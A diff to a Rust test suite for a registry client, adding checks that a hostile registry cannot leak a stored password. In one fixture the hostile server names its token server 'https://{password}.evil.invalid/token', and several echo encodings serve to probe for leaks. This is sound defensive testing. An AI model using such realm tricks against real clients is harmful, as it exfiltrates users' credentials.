@@ -1,12 +1,20 @@
 //! What a registry does after it asked properly: it is given the secret, or a token server is, and neither
 //! gains anything by what it does then.
 
-use std::{sync::Arc, time::Duration};
+use std::{
+    sync::{Arc, Mutex},
+    time::Duration,
+};
 
-use base64::{Engine as _, prelude::BASE64_STANDARD};
+use base64::{
+    Engine as _,
+    prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD},
+};
 use purser_tests::{
     Hostile,
     hostile::{Asked, Reply, answer, basic, bearer, json, token},
+    percent, scan_for_secret,
+    wait::random_hex,
 };
 use serde_json::json;
 
@@ -61,8 +69,15 @@ fn password(asked: &Asked) -> String {
 
 /// What it was sent, in some of the ways in which servers repeat it.
 fn echo(asked: &Asked) -> String {
-    let password = password(asked);
-    format!("you are {} with {password}, {password}", asked.authorization.clone().unwrap_or_default())
+    let (password, authorization) = (password(asked), asked.authorization.clone().unwrap_or_default());
+    let encoded = percent::encode(&password);
+    let (form, lower, twice) =
+        (encoded.replace("%20", "+"), encoded.to_ascii_lowercase(), percent::encode(&encoded));
+    let basic = percent::encode(authorization.trim_start_matches("Basic "));
+    let base64 = BASE64_URL_SAFE_NO_PAD.encode(&password);
+    format!(
+        "you are {authorization} with {password}, {password}, p={encoded}&q={form}&r={lower}&s={twice}, {basic}, {base64}"
+    )
 }
 
 #[tokio::test]
@@ -183,6 +198,49 @@ async fn a_token_server_gains_nothing_by_what_it_does() {
     ])
     .await;
     assert_eq!(thief.authorized(), 0, "{:?}", thief.requests());
+}
+
+/// A registry that was given the password once has its next token server named after it.
+#[tokio::test]
+async fn a_secret_in_a_token_servers_name_is_shown_to_nobody() {
+    let road = super::talkative().await;
+    let given = Mutex::new(None);
+    let registry = Hostile::start(move |asked| {
+        let mut given = given.lock().unwrap();
+        match (asked.authorized(), &*given) {
+            (true, _) => {
+                *given = Some(password(asked));
+                answer("200 OK", "", "{}").into()
+            }
+            (false, None) => basic().into(),
+            (false, Some(password)) => bearer(&format!("https://{password}.evil.invalid/token")).into(),
+        }
+    })
+    .await;
+    // Fit for a host's name, which is lower case.
+    let secret = random_hex(20);
+    let address = registry.address().to_string();
+    let (answer, _) = super::test(&road, &address, &secret, None, &json!(null)).await;
+    assert_eq!(super::verdict(&answer), "verified", "{answer:?}");
+    let id = road.entry_with(&address, "somebody", &secret).await;
+    let tags = json!({"registryId": id, "repository": "a/b"});
+    let answers = [
+        super::test(&road, &address, &secret, None, &json!(null)).await.0,
+        super::test(&road, &address, &secret, Some(road.host()), &json!(null)).await.0,
+        road.client.trpc_query("registry.tags", &tags).await,
+    ];
+    for answer in answers {
+        assert_eq!(super::verdict(&answer), "realm_denied", "{answer:?}");
+        assert!(answer.text().contains("[redacted]"), "{}", answer.text());
+        assert_eq!(scan_for_secret(&answer.text(), &secret), [], "{}", answer.text());
+    }
+    let job = road.pull(&format!("{address}/a/b:1"), json!({"registryId": id})).await;
+    assert_eq!(job["targets"][0]["error"]["code"], "realm_denied", "{job:#}");
+    assert_eq!(scan_for_secret(&job.to_string(), &secret), [], "{job:#}");
+    for log in [road.purser.log_file(), road.agents[0].log_file()] {
+        assert_eq!(scan_for_secret(log, &secret), []);
+    }
+    assert_eq!(scan_for_secret(&road.purser.data_dir(), &secret), []);
 }
 
 /// A server error is one for the moment: the next test says otherwise.
